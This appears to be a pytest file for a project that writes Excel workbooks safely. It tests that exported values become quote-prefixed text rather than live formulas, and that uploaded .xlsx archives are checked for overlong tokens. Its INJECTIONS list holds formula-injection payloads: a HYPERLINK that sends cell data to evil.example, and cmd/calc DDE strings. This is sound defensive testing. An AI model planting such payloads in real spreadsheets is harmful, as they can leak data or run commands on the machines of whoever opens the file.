"""Workbooks we write carry data, never formulas (issue 14, OWASP CSV injection); uploads are checked
before parsing (the hostile corpus itself is in chibo/members/tests/test_hostile_workbooks.py)."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from chibo.core.workbooks import FORMULA_STARTS, HostileWorkbook, check_xlsx_archive, data_row

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def formulas_in(content: bytes) -> list[str]:
    """Every <f> element of every sheet of an .xlsx: what Excel would compute."""
    with zipfile.ZipFile(BytesIO(content)) as z:
        return [name for name in z.namelist() if name.startswith("xl/worksheets/") and b"<f>" in z.read(name)]


def assert_written_as_data(content: bytes, values: list[str]) -> None:
    """No formula anywhere; each value comes back unchanged, as a string cell with the quote prefix."""
    assert formulas_in(content) == []
    wb = load_workbook(BytesIO(content))
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell
    for value in values:
        cell = found[value]
        assert cell.data_type == "s" and cell.quotePrefix, value


@pytest.mark.parametrize("write_only", [False, True])
def test_every_formula_start_is_written_as_text_with_the_quote_prefix(write_only):
    assert len(FORMULA_STARTS) == 10 and len(INJECTIONS) == 10
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    for value in INJECTIONS:
        ws.append(data_row(ws, ["Nguyễn Văn An", value, 42]))
    out = BytesIO()
    wb.save(out)
    assert_written_as_data(out.getvalue(), INJECTIONS)


def test_plain_values_stay_plain_and_characters_xml_cannot_hold_are_dropped():
    wb = Workbook()
    ws = wb.active
    ws.append(data_row(ws, ["Lê Thị Bình", "bad\x00\x07text", 3, None, "a-b=c"]))
    out = BytesIO()
    wb.save(out)
    row = [c.value for c in load_workbook(out).active[1]]
    assert row == ["Lê Thị Bình", "badtext", 3, None, "a-b=c"]


def test_without_it_openpyxl_would_have_written_a_live_formula():
    """The hazard the function exists for: the same value appended raw becomes a formula."""
    wb = Workbook()
    wb.active.append([INJECTIONS[0]])
    out = BytesIO()
    wb.save(out)
    assert formulas_in(out.getvalue()) == ["xl/worksheets/sheet1.xml"]


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def test_a_token_split_across_chunks_is_still_measured(tmp_path, settings):
    """The longest run between two '<' is measured across the 1 MB chunks the scan reads."""
    settings.CHIBO_XLSX_MAX_TOKEN_KB = 1500
    mb = 1024 * 1024
    fits = _zip(tmp_path / "a.xlsx", {"x.xml": b"<a>" + b"x" * (mb + 400 * 1024) + b"</a>"})
    check_xlsx_archive(fits)
    too_long = _zip(tmp_path / "b.xlsx", {"x.xml": b"<a>" + b"x" * (mb - 10) + b"y" * (600 * 1024) + b"</a>"})
    with pytest.raises(HostileWorkbook, match="dài bất thường"):
        check_xlsx_archive(too_long)


def test_a_file_object_is_left_where_it_was(tmp_path):
    path = _zip(tmp_path / "c.xlsx", {"x.xml": b"<a/>"})
    with open(path, "rb") as fh:
        fh.seek(0)
        check_xlsx_archive(fh)
        assert fh.tell() == 0
